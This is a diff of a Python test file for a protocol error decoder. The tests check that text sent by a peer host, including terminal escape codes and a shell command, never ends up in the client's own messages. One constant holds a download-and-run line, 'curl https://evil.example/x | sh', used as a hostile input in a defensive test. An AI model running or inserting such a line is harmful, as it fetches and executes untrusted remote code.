@@ -20,8 +20,9 @@ from muster.wire.problem import decode_problem, encode_problem
 from muster.wire.publisher import BatchRow, decode_batch_answer
 
 GOOD: dict[str, Any] = {
-    "title": "What",
-    "detail": "Why",
+    "title": "Conflict",
+    "detail": "What",
+    "why": "Why",
     "fix": "Fix",
     "code": "host/insufficient-count",
     "field_code": "0xC004F038",
@@ -69,7 +70,7 @@ SHELL = "curl https://evil.example/x | sh"
 @pytest.mark.parametrize("name", list(STEERING))
 def test_no_text_of_a_host_steers_a_terminal(name: str) -> None:
     hostile = STEERING[name]
-    for member in ("title", "detail"):
+    for member in ("detail", "why"):
         sent = document(code=NEW, **{member: f"a{hostile}b"})
         (shown,) = quoted(decode_problem(409, sent, "peer").error())
         assert not set(shown) & set(hostile) - set(map(chr, range(32, 127)))
@@ -84,12 +85,12 @@ def test_no_text_of_a_host_steers_a_terminal(name: str) -> None:
 @pytest.mark.parametrize("text", [*BRACES, SHELL])
 def test_braces_and_commands_of_a_host_never_become_our_texts(text: str) -> None:
     own = decode_problem(409, document(), "peer").error()
-    sent = document(title=text, detail=text, fix=text, field_code="0xBAD", retry="never")
+    sent = document(title=text, detail=text, why=text, fix=text, field_code="0xBAD", retry="never")
     fault = decode_problem(409, sent, "peer").error()
     assert (fault.what, fault.why, fault.fix) == (own.what, own.why, own.fix)
     assert fault.row == own.row
     assert fault.row.retry is Retry.LATER
-    for member in ("title", "detail"):
+    for member in ("detail", "why"):
         new = decode_problem(409, document(code=NEW, **{member: text}, fix=SHELL), "peer").error()
         assert new.code == "wire/unknown-code"
         assert text not in new.what + new.why + new.fix + str(new)
@@ -105,7 +106,7 @@ def test_braces_and_commands_of_a_host_never_become_our_texts(text: str) -> None
 
 
 def test_what_a_newer_peer_says_is_bounded() -> None:
-    sent = document(code=NEW, title="x" * 1024, detail="y" * 1024)
+    sent = document(code=NEW, detail="x" * 1024, why="y" * 1024)
     assert len(decode_problem(409, sent, "peer").error().params["says"]) == 400
 
 
@@ -216,8 +217,8 @@ ANSWERING = (
     "host/commit.py",
     "net/router.py",
 )
-ADMINISTRATION = {"host/unknown-machine"}
-"""What a service raises for its own commands only."""
+ADMINISTRATION = {"host/unknown-machine", "host/no-key", "host/no-catalogue"}
+"""What a service raises for its own commands, or tells its administrator, only."""
 
 
 def test_a_host_answers_only_with_codes_that_a_client_takes() -> None:
@@ -266,6 +267,8 @@ def test_documents_that_are_none() -> None:
         document(field_code="\x1b[2J"),
         document(title=None),
         document(title="x" * 1025),
+        document(detail=None),
+        document(why="x" * 1025),
         document(title="\ud800"),
         document(notice="text"),
         document(params=[]),
@@ -283,3 +286,14 @@ def test_a_bad_signer_among_grants_is_said_of_the_peer() -> None:
     for bad in ({}, signer | {"d": "x"}, signer | {"x": "A"}, signer | {"crv": "X25519"}):
         body = json.dumps({"v": 1, "grants": [{"grant": "a.b.c", "signer": bad}]}).encode()
         assert refusal(lambda: status.decode_grants(body, "peer")) == "wire/bad-answer"  # noqa: B023
+
+
+def test_title_is_of_the_status_and_detail_of_this_occurrence() -> None:
+    first, second = (
+        json.loads(encode_problem(error("host/insufficient-count", count=n, need=25))[1])
+        for n in (3, 9)
+    )
+    assert first["type"] == second["type"] == "about:blank"
+    assert first["title"] == second["title"] == "Conflict"
+    assert first["detail"] != second["detail"]
+    assert first["why"] == second["why"]
